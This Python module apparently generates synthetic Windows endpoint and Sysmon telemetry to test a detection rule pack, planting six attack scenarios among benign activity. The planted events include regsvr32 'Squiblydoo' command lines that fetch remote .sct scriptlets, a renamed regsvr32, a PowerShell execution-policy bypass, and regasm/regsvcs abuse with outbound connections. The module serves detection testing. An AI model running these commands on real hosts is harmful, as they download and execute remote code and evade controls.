"""A deterministic synthetic day-in-the-life of four Windows hosts, with attacks planted.

Benign activity (browsers, Office, updaters, installers that legitimately call regsvr32,
regasm and regsvcs, admins running PowerShell) surrounds the regsvr32 / regasm / regsvcs
attacks the rule pack exists for, so the default job shows true positives *and* silence.
Same seed and end time, same bytes.
"""

from __future__ import annotations

import random
import uuid
from dataclasses import dataclass, field
from datetime import datetime, timedelta
from typing import Any

from eqlwatch.demo.shapes import (
    Host,
    Proc,
    dns_query,
    library_load,
    network_connection,
    process_start,
)

HOSTS = (
    Host("WS-FIN-014", "10.20.4.14", "10.0.19045", "defend"),
    Host("WS-ENG-202", "10.20.8.202", "10.0.22631", "defend"),
    Host("SRV-APP-03", "10.30.1.3", "10.0.20348", "sysmon"),
    Host("WS-HR-007", "192.168.56.7", "10.0.19045", "sysmon"),
)
USERS = ("CORP\\alice", "CORP\\bob", "CORP\\carol", "CORP\\dave")
SYSTEM = "NT AUTHORITY\\SYSTEM"
SYS32 = "C:\\Windows\\System32"
NET4 = "C:\\Windows\\Microsoft.NET\\Framework\\v4.0.30319"
NET4_64 = "C:\\Windows\\Microsoft.NET\\Framework64\\v4.0.30319"
PUBLIC_SITES = (
    ("www.office.com", "52.96.165.18"),
    ("login.microsoftonline.com", "20.190.151.68"),
    ("update.googleapis.com", "142.250.74.67"),
    ("github.com", "140.82.121.4"),
    ("slack.com", "54.192.18.112"),
    ("zoom.us", "170.114.52.2"),
)
INTERNAL = (("fileserver.corp.local", "10.30.1.10"), ("dc01.corp.local", "10.30.1.2"))

INDEX_DEFEND = {
    "process": "logs-endpoint.events.process-default",
    "network": "logs-endpoint.events.network-default",
    "library": "logs-endpoint.events.library-default",
}
INDEX_SYSMON = "logs-windows.sysmon_operational-default"


@dataclass
class DemoDataset:
    """Events per index, plus the planted scenarios (what should and should not alert)."""

    indices: dict[str, list[dict[str, Any]]] = field(default_factory=dict)
    scenarios: list[dict[str, str]] = field(default_factory=list)

    def add(self, host: Host, doc: dict[str, Any]) -> None:
        if host.shape == "sysmon":
            index = INDEX_SYSMON
        else:
            kind = doc["event"]["category"][0]
            index = INDEX_DEFEND["library" if "library" in doc["event"]["category"] else kind]
        self.indices.setdefault(index, []).append(doc)

    def sort(self) -> None:
        for events in self.indices.values():
            events.sort(key=lambda d: d["@timestamp"])


class _Ids:
    def __init__(self, rng: random.Random) -> None:
        self.rng = rng

    def pid(self) -> int:
        return self.rng.randrange(1000, 60000, 4)

    def guid(self, host: Host) -> str:
        raw = uuid.UUID(int=self.rng.getrandbits(128), version=4)
        return f"{{{str(raw).upper()}}}" if host.shape == "sysmon" else str(raw)


def generate(
    *, end: datetime, hours: float = 6.0, seed: int = 7, density: int = 600
) -> DemoDataset:
    """`density` benign sessions per host; attacks land in the last third of the period."""
    rng = random.Random(seed)
    ids = _Ids(rng)
    start = end - timedelta(hours=hours)
    data = DemoDataset()
    for host in HOSTS:
        system = Proc(
            ids.pid(),
            ids.guid(host),
            f"{SYS32}\\services.exe",
            f"{SYS32}\\services.exe",
            (f"{SYS32}\\services.exe",),
            SYSTEM,
        )
        explorer = Proc(
            ids.pid(),
            ids.guid(host),
            "C:\\Windows\\explorer.exe",
            "C:\\Windows\\Explorer.EXE",
            ("C:\\Windows\\Explorer.EXE",),
            rng.choice(USERS),
        )
        for _ in range(density):
            ts = start + timedelta(seconds=rng.uniform(0, hours * 3600 * 0.98))
            _benign_session(data, rng, ids, host, ts, explorer, system)
    # Attacks fill the stretch from 40 % to at most 90 % of the period, however long it is.
    gap = timedelta(hours=hours) * 0.5 / 25
    _plant_attacks(data, ids, start + timedelta(hours=hours * 0.4), min(gap, timedelta(minutes=1)))
    _plant_benign_lookalikes(data, ids, start + timedelta(hours=hours * 0.2))
    data.sort()
    return data


def _benign_session(
    data: DemoDataset,
    rng: random.Random,
    ids: _Ids,
    host: Host,
    ts: datetime,
    explorer: Proc,
    system: Proc,
) -> None:
    choice = rng.random()
    user = explorer.user
    if choice < 0.35:
        exe = rng.choice(
            [
                "C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe",
                "C:\\Program Files\\Microsoft Office\\root\\Office16\\OUTLOOK.EXE",
                "C:\\Program Files\\Microsoft Office\\root\\Office16\\WINWORD.EXE",
                "C:\\Users\\Public\\AppData\\Local\\Microsoft\\Teams\\current\\Teams.exe",
            ]
        )
        proc = Proc(
            ids.pid(),
            ids.guid(host),
            exe,
            f'"{exe}"',
            (exe,),
            user,
            explorer,
            signed_by="Microsoft Corporation" if "Microsoft" in exe else "Google LLC",
        )
        data.add(host, process_start(host, ts, proc))
        for k in range(rng.randint(1, 4)):
            name, ip = rng.choice(PUBLIC_SITES)
            at = ts + timedelta(milliseconds=200 + 900 * k)
            data.add(host, dns_query(host, at, proc, name, ip))
            data.add(
                host,
                network_connection(
                    host, at + timedelta(milliseconds=40), proc, ip, 443, rng.randint(49152, 65535)
                ),
            )
    elif choice < 0.6:
        exe = rng.choice(
            [
                f"{SYS32}\\svchost.exe",
                f"{SYS32}\\taskhostw.exe",
                f"{SYS32}\\backgroundTaskHost.exe",
                f"{SYS32}\\conhost.exe",
            ]
        )
        args: tuple[str, ...] = (
            exe,
            "-k",
            rng.choice(["netsvcs", "LocalService", "UnistackSvcGroup"]),
        )
        proc = Proc(ids.pid(), ids.guid(host), exe, " ".join(args), args, SYSTEM, system)
        data.add(host, process_start(host, ts, proc))
        data.add(
            host,
            library_load(
                host,
                ts + timedelta(milliseconds=30),
                proc,
                f"{SYS32}\\{rng.choice(['ntdll', 'kernel32', 'combase'])}.dll",
                "Microsoft Windows",
            ),
        )
        name, ip = rng.choice(INTERNAL)
        data.add(
            host,
            network_connection(
                host,
                ts + timedelta(milliseconds=90),
                proc,
                ip,
                rng.choice([445, 389, 88]),
                rng.randint(49152, 65535),
            ),
        )
    elif choice < 0.8:
        exe = f"{SYS32}\\WindowsPowerShell\\v1.0\\powershell.exe"
        args = (
            exe,
            "-NoProfile",
            "-Command",
            rng.choice(["Get-Service", "Get-ChildItem C:\\Reports", "Test-NetConnection dc01"]),
        )
        proc = Proc(ids.pid(), ids.guid(host), exe, " ".join(args), args, user, explorer)
        data.add(host, process_start(host, ts, proc))
    else:
        exe = f"{SYS32}\\cmd.exe"
        args = (exe, "/c", rng.choice(["ipconfig /all", "whoami", "dir C:\\Users"]))
        proc = Proc(ids.pid(), ids.guid(host), exe, " ".join(args), args, user, explorer)
        data.add(host, process_start(host, ts, proc))


def _plant_attacks(data: DemoDataset, ids: _Ids, base: datetime, gap: timedelta) -> None:
    """The true positives, one per behaviour the pack covers, spread over both shapes."""
    fin, eng, srv, hr = HOSTS
    t = base

    # 1. Squiblydoo: regsvr32 pulls a remote scriptlet, loads scrobj.dll, calls out (Defend).
    word = Proc(
        ids.pid(),
        ids.guid(fin),
        "C:\\Program Files\\Microsoft Office\\root\\Office16\\WINWORD.EXE",
        "WINWORD.EXE /n invoice.docm",
        ("WINWORD.EXE",),
        USERS[0],
    )
    r32 = Proc(
        ids.pid(),
        ids.guid(fin),
        f"{SYS32}\\regsvr32.exe",
        "regsvr32.exe /s /n /u /i:http://185.199.108.133/payload.sct scrobj.dll",
        ("regsvr32.exe", "/s", "/n", "/u", "/i:http://185.199.108.133/payload.sct", "scrobj.dll"),
        USERS[0],
        word,
    )
    data.add(fin, process_start(fin, t, r32))
    data.add(
        fin,
        library_load(
            fin, t + timedelta(milliseconds=120), r32, f"{SYS32}\\scrobj.dll", "Microsoft Windows"
        ),
    )
    data.add(
        fin,
        network_connection(fin, t + timedelta(milliseconds=450), r32, "185.199.108.133", 80, 50112),
    )
    data.scenarios.append(
        {"host": fin.name, "case": "regsvr32 remote scriptlet (Squiblydoo)", "expect": "alert"}
    )

    # 2. Same attack seen by Sysmon, connection logged 0.7 s *before* the process start.
    t += 7 * gap
    cmd = Proc(ids.pid(), ids.guid(hr), f"{SYS32}\\cmd.exe", "cmd.exe", ("cmd.exe",), USERS[3])
    r32b = Proc(
        ids.pid(),
        ids.guid(hr),
        f"{SYS32}\\regsvr32.exe",
        "regsvr32.exe  /u /s /i:https://104.20.208.21/raw/H4A4iDTA scrobj.dll",
        ("regsvr32.exe", "/u", "/s", "/i:https://104.20.208.21/raw/H4A4iDTA", "scrobj.dll"),
        USERS[3],
        cmd,
    )
    data.add(
        hr,
        network_connection(hr, t - timedelta(milliseconds=700), r32b, "104.20.208.21", 443, 49877),
    )
    data.add(hr, process_start(hr, t, r32b))
    data.add(
        hr,
        library_load(
            hr, t + timedelta(milliseconds=90), r32b, f"{SYS32}\\scrobj.dll", "Microsoft Windows"
        ),
    )
    data.scenarios.append(
        {"host": hr.name, "case": "regsvr32 remote scriptlet, clock skew", "expect": "alert"}
    )

    # 3. Renamed regsvr32 in ProgramData running a local scriptlet (Sysmon).
    t += 5 * gap
    ren = Proc(
        ids.pid(),
        ids.guid(srv),
        "C:\\ProgramData\\jabber.exe",
        "C:\\ProgramData\\jabber.exe /s /u /i:C:\\ProgramData\\x.sct scrobj.dll",
        ("C:\\ProgramData\\jabber.exe", "/s", "/u", "/i:C:\\ProgramData\\x.sct", "scrobj.dll"),
        SYSTEM,
        cmd,
        original_file_name="REGSVR32.EXE",
    )
    data.add(srv, process_start(srv, t, ren))
    data.scenarios.append({"host": srv.name, "case": "renamed regsvr32", "expect": "alert"})

    # 4. regsvr32 registers an unsigned DLL from the user's temp folder (Defend).
    t += 4 * gap
    dll = "C:\\Users\\bob\\AppData\\Local\\Temp\\upd4711.dll"
    r32c = Proc(
        ids.pid(),
        ids.guid(eng),
        f"{SYS32}\\regsvr32.exe",
        f"regsvr32.exe /s {dll}",
        ("regsvr32.exe", "/s", dll),
        USERS[1],
        word,
    )
    data.add(eng, process_start(eng, t, r32c))
    data.add(eng, library_load(eng, t + timedelta(milliseconds=200), r32c, dll, None))
    data.scenarios.append(
        {"host": eng.name, "case": "regsvr32 unsigned DLL from temp", "expect": "alert"}
    )

    # 5. regsvcs with no arguments, beaconing to a public address (Defend).
    t += 6 * gap
    svcs = Proc(
        ids.pid(),
        ids.guid(fin),
        f"{NET4}\\RegSvcs.exe",
        f'"{NET4}\\RegSvcs.exe"',
        (f"{NET4}\\RegSvcs.exe",),
        USERS[0],
        word,
    )
    data.add(fin, process_start(fin, t, svcs))
    data.add(
        fin, network_connection(fin, t + timedelta(seconds=2), svcs, "45.77.65.211", 443, 51544)
    )
    data.scenarios.append(
        {"host": fin.name, "case": "regsvcs no arguments + public connection", "expect": "alert"}
    )

    # 6. regasm /U on a DLL from Downloads, launched by PowerShell (Sysmon).
    t += 3 * gap
    ps = Proc(
        ids.pid(),
        ids.guid(hr),
        f"{SYS32}\\WindowsPowerShell\\v1.0\\powershell.exe",
        "powershell.exe -ep bypass",
        ("powershell.exe", "-ep", "bypass"),
        USERS[3],
        cmd,
    )
    asm = Proc(
        ids.pid(),
        ids.guid(hr),
        f"{NET4_64}\\RegAsm.exe",
        f"{NET4_64}\\RegAsm.exe /U C:\\Users\\dave\\Downloads\\T1121.dll",
        (f"{NET4_64}\\RegAsm.exe", "/U", "C:\\Users\\dave\\Downloads\\T1121.dll"),
        USERS[3],
        ps,
    )
    data.add(hr, process_start(hr, t, asm))
    data.add(hr, network_connection(hr, t + timedelta(seconds=1), asm, "91.215.85.17", 8443, 50022))
    data.scenarios.append(
        {"host": hr.name, "case": "regasm /U from Downloads + connection", "expect": "alert"}
    )


def _plant_benign_lookalikes(data: DemoDataset, ids: _Ids, base: datetime) -> None:
    """Legitimate uses of the same binaries: the pack must stay quiet on these."""
    fin, eng, srv, _ = HOSTS
    msi = Proc(
        ids.pid(),
        ids.guid(srv),
        f"{SYS32}\\msiexec.exe",
        "msiexec.exe /V",
        ("msiexec.exe", "/V"),
        SYSTEM,
    )
    reg = Proc(
        ids.pid(),
        ids.guid(srv),
        f"{SYS32}\\regsvr32.exe",
        'regsvr32.exe /s "C:\\Program Files\\Contoso\\Viewer\\ctviewer.dll"',
        ("regsvr32.exe", "/s", "C:\\Program Files\\Contoso\\Viewer\\ctviewer.dll"),
        SYSTEM,
        msi,
    )
    data.add(srv, process_start(srv, base, reg))
    data.add(
        srv,
        library_load(
            srv,
            base + timedelta(milliseconds=80),
            reg,
            "C:\\Program Files\\Contoso\\Viewer\\ctviewer.dll",
            "Contoso Ltd",
        ),
    )
    data.scenarios.append(
        {"host": srv.name, "case": "installer registers a signed COM DLL", "expect": "silence"}
    )
    devenv = Proc(
        ids.pid(),
        ids.guid(eng),
        "C:\\Program Files\\Microsoft Visual Studio\\2022\\Community\\Common7\\IDE\\devenv.exe",
        "devenv.exe",
        ("devenv.exe",),
        USERS[1],
    )
    asm = Proc(
        ids.pid(),
        ids.guid(eng),
        f"{NET4_64}\\RegAsm.exe",
        f'{NET4_64}\\RegAsm.exe /codebase "C:\\src\\Interop\\bin\\Interop.dll"',
        (f"{NET4_64}\\RegAsm.exe", "/codebase", "C:\\src\\Interop\\bin\\Interop.dll"),
        USERS[1],
        devenv,
    )
    data.add(eng, process_start(eng, base + timedelta(minutes=9), asm))
    data.scenarios.append(
        {"host": eng.name, "case": "developer build registers an assembly", "expect": "silence"}
    )
    r32 = Proc(
        ids.pid(),
        ids.guid(fin),
        f"{SYS32}\\regsvr32.exe",
        f"regsvr32.exe /s {SYS32}\\jscript9.dll",
        ("regsvr32.exe", "/s", f"{SYS32}\\jscript9.dll"),
        SYSTEM,
        msi,
    )
    data.add(fin, process_start(fin, base + timedelta(minutes=15), r32))
    data.add(
        fin,
        network_connection(
            fin, base + timedelta(minutes=15, seconds=1), r32, "10.30.1.10", 445, 50400
        ),
    )
    data.scenarios.append(
        {
            "host": fin.name,
            "case": "regsvr32 re-registers a system DLL, talks to the internal file server",
            "expect": "silence",
        }
    )
